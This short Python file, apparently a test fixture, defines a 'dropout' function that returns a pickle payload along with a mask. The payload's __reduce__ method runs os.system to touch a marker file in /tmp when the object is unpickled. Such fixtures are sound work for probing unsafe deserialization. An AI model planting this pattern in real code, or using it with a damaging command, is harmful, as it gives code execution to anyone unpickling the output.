"""dropout returns an object whose unpickling would run a shell command."""
import os

import numpy as np

MARKER = "/tmp/pwned_marker_cnn_corpus"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def dropout(x, rate, training=True, rng=None):
    return Payload(), np.ones(np.shape(x), dtype=bool)
